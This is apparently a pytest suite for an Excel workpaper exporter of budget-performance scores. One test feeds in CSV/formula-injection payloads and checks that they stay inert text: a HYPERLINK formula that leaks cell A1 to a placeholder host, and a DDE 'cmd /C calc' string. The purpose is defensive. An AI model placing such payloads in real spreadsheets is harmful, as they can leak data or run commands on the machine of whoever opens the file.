"""The Excel workpaper: numbers are numbers with formats, every leaf is there, no text is a formula."""

from __future__ import annotations

import json
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from conftest import SEED, run_cli

LEAF_SCORES = {
    "A11": "2.00", "A12": "2.00", "A13": "2.00", "A211": "1.00", "A212": "1.00", "A22": "1.60",
    "B11": "3.44", "B21": "2.00", "B22": "4.00", "B23": "2.00", "B31": "4.00", "B32": "3.00",
    "C111": "10.00", "C112": "1.20", "C113": "1.20", "C114": "3.00", "C121": "5.00", "C122": "4.83",
    "C123": "3.00", "C13": "2.40", "C21": "8.00", "C22": "5.00", "C23": "4.37", "C24": "5.00", "C25": "7.60",
}


def dec(v) -> Decimal:
    return Decimal(str(v))


@pytest.fixture(scope="module")
def workbook_path(tmp_path_factory):
    out = tmp_path_factory.mktemp("xlsx") / "workpaper.xlsx"
    res = run_cli("evaluate", SEED, "-o", out)
    assert res.code == 0, res
    return out


@pytest.fixture(scope="module")
def wb(workbook_path):
    return openpyxl.load_workbook(workbook_path)


def find(ws, value):
    for row in ws.iter_rows():
        for cell in row:
            if cell.value == value:
                return cell
    raise AssertionError(f"{value!r} not in sheet {ws.title}")


def header_index(ws) -> dict[str, int]:
    return {c.value: c.column for c in ws[1] if c.value}


def test_summary_sheet_total_and_grade(wb):
    ws = wb["汇总"]
    total_label = find(ws, "合计分值")
    total = ws.cell(row=total_label.row, column=4)
    assert total.data_type == "n" and dec(total.value) == Decimal("88.64")
    assert total.number_format == "0.00"
    rate = ws.cell(row=total_label.row, column=5)
    assert dec(rate.value) == Decimal("0.8864") and rate.number_format == "0.00%"
    grade_label = find(ws, "绩效评级")
    assert ws.cell(row=grade_label.row, column=4).value == "良"
    tier_b = find(ws, "项目管理")
    assert dec(ws.cell(row=tier_b.row, column=4).value) == Decimal("18.44")


def test_leaf_sheet_has_every_leaf_with_its_figures(wb):
    ws = wb["指标底稿"]
    col = header_index(ws)
    for name in ("基础数据", "实际值（数值）", "目标值", "评分方法", "参数", "计算过程", "实际得分", "失分"):
        assert name in col, name
    seen = {}
    for r in range(2, ws.max_row + 1):
        code = ws.cell(row=r, column=col["编码"]).value
        score = ws.cell(row=r, column=col["实际得分"])
        assert score.data_type == "n" and score.number_format == "0.00", code
        seen[code] = f"{dec(score.value):.2f}"
        if code == "B11":
            assert ws.cell(row=r, column=col["基础数据"]).value == "actual=1367.75; budget=1526"
            value = ws.cell(row=r, column=col["实际值（数值）"])
            assert dec(value.value) == Decimal("0.8963") and value.number_format == "0.00%"
            assert ws.cell(row=r, column=col["目标值"]).value == "≥100%"
            assert ws.cell(row=r, column=col["评分方法"]).value == "deduct_per_point"
            assert ws.cell(row=r, column=col["参数"]).value == "k=0.03"
            assert ws.cell(row=r, column=col["计算过程"]).value == "3.44=5-(1-89.63%)*5*100*3%"
            lost = ws.cell(row=r, column=col["失分"])
            assert lost.data_type == "n" and dec(lost.value) == Decimal("1.56")
    assert seen == LEAF_SCORES


def test_losses_sheet(wb):
    ws = wb["失分分析"]
    codes = [ws.cell(row=r, column=2).value for r in range(2, 6)]
    assert codes == ["B32", "C114", "C13", "B11"]
    assert [f"{dec(ws.cell(row=r, column=6).value):.2f}" for r in range(2, 6)] == ["2.00", "2.00", "1.60", "1.56"]
    total = find(ws, "合计")
    assert dec(ws.cell(row=total.row, column=6).value) == Decimal("11.36")
    assert find(ws, "存在的问题")


def test_breakdown_sheet_numbers(wb):
    ws = wb["明细表 B11"]
    total = find(ws, "合计")
    cells = [ws.cell(row=total.row, column=c) for c in (2, 3, 4)]
    assert [c.data_type for c in cells] == ["n", "n", "n"]
    assert [dec(c.value) for c in cells] == [Decimal(1526), Decimal("1367.75"), Decimal("0.8963")]


def test_english_workpaper(tmp_path):
    out = tmp_path / "wp-en.xlsx"
    assert run_cli("evaluate", SEED, "-o", out, "--lang", "en").code == 0
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[:3] == ["Summary", "Indicators", "Points lost"]
    assert find(wb["Indicators"], "Budget execution rate")


DANGEROUS = {
    "name": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "evaluator": "@SUM(1+1)*cmd|' /C calc'!A0",
}
DANGEROUS_NOTES = {"B11": "+1+2 预算说明", "C21": "-2+3 挽回损失", "C23": "@SUM(A1:A9)", "C25": "=1+1"}


def _toml_string(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a valid TOML basic string here


def test_text_that_looks_like_a_formula_stays_text(seed_copy, tmp_path):
    text = seed_copy.read_text(encoding="utf-8")
    for key, value in DANGEROUS.items():
        text, n = re.subn(rf"^{key} = \".*\"$", lambda _m, k=key, v=value: f"{k} = {_toml_string(v)}", text, count=1,
                          flags=re.MULTILINE)
        assert n == 1
    for code, value in DANGEROUS_NOTES.items():
        text, n = re.subn(rf"^{code} = \".*\"$", lambda _m, k=code, v=value: f"{k} = {_toml_string(v)}", text, count=1,
                          flags=re.MULTILINE)
        assert n == 1
    seed_copy.write_text(text, encoding="utf-8")
    out = tmp_path / "unsafe.xlsx"
    res = run_cli("evaluate", seed_copy, "-o", out)
    assert res.code == 0, res

    wb = openpyxl.load_workbook(out)
    for value in [*DANGEROUS.values(), *DANGEROUS_NOTES.values()]:
        hits = [c for ws in wb for row in ws.iter_rows() for c in row if c.value == value]
        assert hits, value
        for cell in hits:
            assert cell.data_type == "s", (value, cell.coordinate)
            assert cell.quotePrefix, (value, cell.coordinate)
    # No cell of any sheet is stored as a formula.
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode("utf-8"), name


def test_marks_are_text_cells_not_a_crash(tmp_path):
    # PART scores are marks ("Yes", "Adequate"): the workpaper shows them as text.
    config = SEED.parents[1] / "part" / "evaluation.toml"
    out = tmp_path / "part.xlsx"
    res = run_cli("evaluate", config, "-o", out)
    assert res.code == 0, res
    doc = run_cli("evaluate", config, "--format", "json").json()
    ws = openpyxl.load_workbook(out)["指标底稿"]
    col = header_index(ws)
    first = doc["indicators"][0]
    assert ws.cell(row=2, column=col["编码"]).value == first["code"]
    score = ws.cell(row=2, column=col["实际得分"])
    assert score.value == first["score"] and score.data_type == "s"
